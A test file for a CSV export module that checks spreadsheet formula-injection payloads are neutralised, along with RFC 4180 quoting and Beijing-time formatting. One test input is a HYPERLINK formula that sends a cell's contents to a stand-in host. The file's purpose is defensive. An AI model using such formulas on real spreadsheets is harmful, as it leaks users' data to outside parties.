// CSV fields as a spreadsheet will read them: no cell a consumer wrote may become a formula (issue 25 §3).
import { beijingIso, csvField, describeEntry } from './export'

describe('csvField', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"点我")', `"'=HYPERLINK(""http://x.example/?""&A1,""点我"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises the formula %j', (input, expected) => {
    expect(csvField(input)).toBe(expected)
  })

  it('leaves plain numbers, negative amounts included, as numbers', () => {
    expect(csvField('-10.00')).toBe('-10.00')
    expect(csvField(-3)).toBe('-3')
    expect(csvField('100')).toBe('100')
  })

  it('quotes commas, quotes and line breaks (RFC 4180) and leaves plain text alone', () => {
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('礼品卡 消费')).toBe('礼品卡 消费')
    expect(csvField(undefined)).toBe('')
  })
})

describe('beijingIso and describeEntry (#28)', () => {
  it('writes a 07:32 UTC sale as 15:32 Beijing time with its offset, across midnight too', () => {
    expect(beijingIso(Date.UTC(2026, 11, 6, 7, 32, 5))).toBe('2026-12-06T15:32:05+08:00')
    expect(beijingIso(Date.UTC(2026, 11, 6, 17, 0, 0))).toBe('2026-12-07T01:00:00+08:00')
    expect(Date.parse(beijingIso(1764999999000))).toBe(1764999999000)
  })
  it('translates the ledger’s own words and keeps anyone’s own text', () => {
    expect(describeEntry('card issued')).toBe('礼品卡开卡')
    expect(describeEntry('拿铁')).toBe('拿铁')
    expect(describeEntry(undefined)).toBe('')
  })
})
